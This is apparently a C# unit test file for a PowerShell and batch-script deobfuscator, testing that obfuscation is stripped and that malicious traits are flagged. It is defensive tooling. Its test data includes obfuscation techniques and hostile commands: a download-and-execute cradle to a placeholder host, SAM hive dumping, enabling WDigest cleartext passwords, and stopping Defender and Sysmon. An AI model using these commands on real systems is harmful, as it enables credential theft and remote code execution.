using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

/// <summary>Shapes that compute nothing come off, and data in unusual clothes is read; what honest scripts do alike stays.</summary>
public sealed class DisguiseTests
{
    [Theory]
    [InlineData("sal KIu Get-ChildItem\nnal zeL Remove-Item\nKIu C:\\t | zeL", "Get-ChildItem C:\\t | Remove-Item")]
    [InlineData("$qZt = 675\nwhile ($qZt -ne 715) {\n switch ($qZt) {\n  461 { 'b'; $qZt = 715; break }\n  675 { 'a'; $qZt = 461; break }\n }\n}", "'a';\n'b';")]
    [InlineData("if ((7 * 7) -gt 40) { Get-Date } else { exit }\nif ($PID -ge 0) { Get-Process } else { exit }", "Get-Date\nGet-Process")]
    [InlineData("$GnZWqT=@('{0} degrees')\nWrite-Output ($GnZWqT[0] -f 5)", "Write-Output ('{0} degrees' -f 5)")]
    [InlineData("iex (-join(([Net.IPAddress]::Parse('71.101.116.45')).GetAddressBytes() + [byte[]](68,97,116,101) | % { [char]$_ }))", "Get-Date")]
    [InlineData("$d = @'\nId,Val\n0,71\n1,102\n2,118\n3,48\n4,72\n5,102\n6,122\n7,108\n'@ | ConvertFrom-Csv\niex (-join($d | % { [char]([int]$_.Val - [int]$_.Id) }))", "Get-Date")]
    [InlineData("[xml]$x = '<r><i n=\"71\"/><i n=\"101\"/><i n=\"116\"/><i n=\"45\"/><i n=\"68\"/><i n=\"97\"/><i n=\"116\"/><i n=\"101\"/></r>'\niex (-join($x.r.i | % { [char][int]$_.n }))", "Get-Date")]
    [InlineData("class Q {\n [int]$S\n Q([int]$s) { $this.S = $s }\n [string] Open([int[]]$v) {\n  $r = ''\n  foreach ($x in $v) { $r += [char]($x / $this.S) }\n  return $r\n }\n}\n$o = [Q]::new(2)\niex ($o.Open(@(142,202,232,90,136,194,232,202)))", "Get-Date")]
    [InlineData("$t = New-Object Data.DataTable\n$o = ''\nforeach ($e in '10*7+1','14*7+3','16*7+4','6*7+3','9*7+5','13*7+6','16*7+4','14*7+3') { $o += [char][int]$t.Compute($e,'') }\niex $o", "Get-Date")]
    [InlineData("$c = [Array]::ConvertAll([int[]](142,202,232,90,136,194,232,202), [Converter[int,string]]{ param($v) [string][char]($v -shr 1) })\niex ([string]::Join('', $c))", "Get-Date")]
    [InlineData("$q = [long[]](7310575040577430855)\n$u = New-Object byte[] 8\n[Buffer]::BlockCopy($q, 0, $u, 0, 8)\niex ([Text.Encoding]::ASCII.GetString($u))", "Get-Date")]
    [InlineData("function Ju ($T) { $U = ''; for ($P = 2; $P -lt $T.Length; $P += 3) { $U += $T[$P] }; $U }\nStart-Process (Ju 'abncdoeftghejkplma0ld12')", "Start-Process notepad")]
    [InlineData("cmd /c 'powershell -nop -c \"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(''RwBlAHQALQBEAGEAdABlAA=='')))\"'", "Get-Date")]
    [InlineData("&(gcm i*x) ('Get-'+'Da'+'te')", "Get-Date")]
    [InlineData("$a=@(762602823,1702125892)|%{[BitConverter]::GetBytes([uint32]$_)}\niex ([Text.Encoding]::UTF8.GetString([byte[]]$a,0,8))", "Get-Date")]
    [InlineData("$env:QZ7W='RwBlAHQALQBEAGEAdABlAA=='\niex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gci env:QZ7W).Value)))", "Get-Date")]
    [InlineData("function Ts($q) { return $q.Replace('!~','') }\nRemove-Item (Ts 'C:!~\\te!~mp\\a!~b.!~txt')", "Remove-Item C:\\temp\\ab.txt")]
    [InlineData("New-Object Net.WebProxy(\"{1}{0}\"-f'81','192.0.2.1:')", "New-Object Net.WebProxy('192.0.2.1:81')")]
    [InlineData("Set-Item Variable:/c (.(gcm *w-*ject) ('Net.'+'WebCl'+'ient'))\nSI Variable:/u ('http'+'://a.exa'+'mple/y')\n&(gcm I*e-E*ion) ((Get-Item Variable:/c).Value.(((Get-Item Variable:/c).Value.PsObject.Methods | ? { $_.Name -clike 'D*g' }).Name).Invoke((gv u -ValueO)))",
        "$c = New-Object Net.WebClient\n$u = 'http://a.example/y'\nInvoke-Expression ($c.DownloadString($u))")]
    [InlineData("[Environment]::SetEnvironmentVariable('tRq','Get-Date','Process');. ([scriptblock]::Create(([Environment]::GetEnvironmentVariable('tRq','Process'))))", "Get-Date")]
    [InlineData("Set-Clipboard -Value 'Get-Date'\nAdd-Type -AssemblyName System.Windows.Forms\nIEX ([System.Windows.Forms.Clipboard]::GetText())\n[System.Windows.Forms.Clipboard]::Clear()", "Get-Date")]
    [InlineData("function Area($w, $h) { return $w * $h }\n$a = Area 3 4\nWrite-Output (([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('QQByAGUAYQA6ACAA'))) + $a)", "function Area($w, $h) { return $w * $h }\n$a = Area 3 4\nWrite-Output ('Area: ' + $a)")]
    [InlineData("Invoke-RestMethod -Ur \"$('https://api.exa')$('mple.t')$('est/items')\" -Met \"$('Po')$('st')\" -Bo \"$('bo')$('dy')\"", "Invoke-RestMethod -Uri 'https://api.example.test/items' -Method 'Post' -Body 'body'")]
    [InlineData("${lamp} = New-Object -ComObject WScript.Shell\n${lamp}.Run((-join((99-0),(97+0),(108*2/2),(99+0)|%{[char][int]$_})))", "$lamp = New-Object -ComObject WScript.Shell\n$lamp.Run('calc')")]
    public void A_disguise_comes_off(string script, string plain) => Assert.Equal(plain, Deobfuscator.Judge(script).Text.Trim());

    [Theory]
    [InlineData("Set-Alias ll Get-ChildItem\nll C:\\t")]
    [InlineData("$state = 1\nwhile ($state -ne 3) {\n switch ($state) {\n  1 { if (Test-Path C:\\a) { $state = 2 } }\n  2 { $state = 3; break }\n }\n}")]
    [InlineData("if ($Verbose) { 'a' } else { 'b' }\nif ((Get-Date).Year -gt 2024) { 'new' } else { 'old' }")]
    [InlineData("$names = @('one','two')\nWrite-Output $names[0]")]
    [InlineData("$rows = Import-Csv C:\\a.csv\n$rows | ForEach-Object { $_.Val }")]
    [InlineData("class P {\n [int]$X\n P([int]$x) { $this.X = $x }\n}\n$p = [P]::new(2)\n$p.X")]
    [InlineData("$w = { Get-Service }\n$e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($w.ToString()))\nStart-Process powershell.exe -Verb RunAs -ArgumentList \"-EncodedCommand $e\"")]
    [InlineData("Set-Variable -Name limit -Value (Get-Content C:\\limit.txt)\nWrite-Output (Get-Variable limit -ValueOnly)")]
    [InlineData("Get-Service | Sort-Object Name -Desc | Select-Object -Fir 5")]
    [InlineData("$w.PSObject.Methods['DownloadString'].Invoke('http://a.example/')")]
    [InlineData("${my name} = 1\n${count} = 2\nWrite-Output ${count}")]
    public void Honest_shapes_stay(string script) => Assert.Equal(script, Deobfuscator.Judge(script).Text);

    [Fact]
    public void A_batch_file_is_known_by_its_name()
    {
        const string script = "whoami\r\nset R=hklm\\sam\r\nreg save %R% c:\\x.hiv\r\n";
        Assert.True(Deobfuscator.Judge(script, ScriptOrigins.OfFile("C:\\t\\a.CMD")).Malicious);
        Assert.Equal(script, Deobfuscator.Judge(script, ScriptOrigin.Batch).Text);
        Assert.False(Deobfuscator.Judge("whoami\r\nset R=hklm\\software\\corp\r\nreg save %R% c:\\x.hiv\r\n", ScriptOrigin.Batch).Malicious);
        Assert.Equal(ScriptOrigin.File, ScriptOrigins.OfFile("a.ps1"));
    }

    [Theory]
    [InlineData("cmd /c \"for /f \"tokens=1-3 delims=#\" %a in (\"te#Get-#Da\") do powershell -nop -c %b%c%a\"", "Get-Date")]
    [InlineData("cmd /c \"echo Get-Date^^^|Out-Host | powershell -nop -\"", "Get-Date|Out-Host")]
    [InlineData("cmd /v:on /c \"set Aa=te('&&set Bb=Get-Da&&powershell -c !Bb!!Aa!x')\"", "Get-Date('x')")]
    [InlineData("@echo off\nset \"k=tGDa-e\"\npowershell -noprofile -command %k:~1,1%%k:~5,1%%k:~0,1%%k:~4,1%%k:~2,1%%k:~3,1%%k:~0,1%%k:~5,1%\n", "Get-Date")]
    [InlineData("@echo off\nset \"o=%TEMP%\\q\"\n> \"%o%.b64\" (\necho -----BEGIN CERTIFICATE-----\necho R2V0LURh\necho dGU=\necho -----END CERTIFICATE-----\n)\ncertutil -f -decode \"%o%.b64\" \"%o%.ps1\" >nul\npowershell -ep bypass -f \"%o%.ps1\"\ndel \"%o%.*\"\n", "Get-Date")]
    [InlineData("mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"powershell -nop -e RwBlAHQ\"&\"ALQBEAGEA\" & \"dABlAA==\",0)(window.close)", "Get-Date")]
    public void A_batch_file_that_only_starts_a_hidden_script_is_that_script(string batch, string script) => Assert.Equal(script, Deobfuscator.Judge(batch).Text.Trim());

    [Theory]
    [InlineData("@echo off\nset dir=C:\\Tools\npowershell -File %dir%\\report.ps1\n")]
    [InlineData("@echo off\necho Get-Date > %TEMP%\\a.ps1\npowershell -File %TEMP%\\a.ps1\ndel %TEMP%\\a.ps1\n")]
    [InlineData("@echo off\nfor /f \"tokens=1,2 delims=;\" %%a in (list.csv) do net user %%a %%b\n")]
    public void An_honest_batch_file_stays(string batch) => Assert.Equal(batch, Deobfuscator.Judge(batch).Text);

    [Fact]
    public void Quotes_inside_a_word_of_a_batch_file_hide_nothing() =>
        Assert.True(Deobfuscator.Judge("whoami\r\nre\"\"g save hk\"\"lm\\sam c:\\x.hiv\r\n", ScriptOrigin.Batch).Malicious);

    /// <summary>A key on one line, a value on another, a shortened parameter, a table: what is meant is judged.</summary>
    [Theory]
    [InlineData("$k = 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest'\n$n = 'UseLogonCredential'\nsp $k $n -Va 1", "cleartext-passwords-enabled")]
    [InlineData("$p = @{ Path = 'HKLM:\\S\\WDigest'; Name = 'UseLogonCredential'; Value = 1 }\nSet-ItemProperty @p", "cleartext-passwords-enabled")]
    [InlineData("$s = 'WinDefend', 'Sense', 'Sysmon'\n$s | % { spsv $_ -Force }", "guards-ended")]
    public void What_a_command_says_in_plain_words_is_judged(string script, string trait) => Assert.Contains(trait, Deobfuscator.Judge(script).Reasons.Select(reason => reason.Key));

    /// <summary>Words that stand far apart in a long script do not meet.</summary>
    [Fact]
    public void Far_words_do_not_meet()
    {
        var filler = string.Join('\n', Enumerable.Range(0, 4_000).Select(i => $"Write-Verbose 'step {i} of the report'"));
        Assert.Empty(Deobfuscator.Judge($"$c = New-Object Net.Sockets.TcpClient('mail.contoso.com', 25)\n{filler}\n$p.StartInfo.RedirectStandardInput = $true; $p.StartInfo.FileName = 'cmd.exe'; $p.StartInfo.UseShellExecute = $false").Reasons);
    }
}
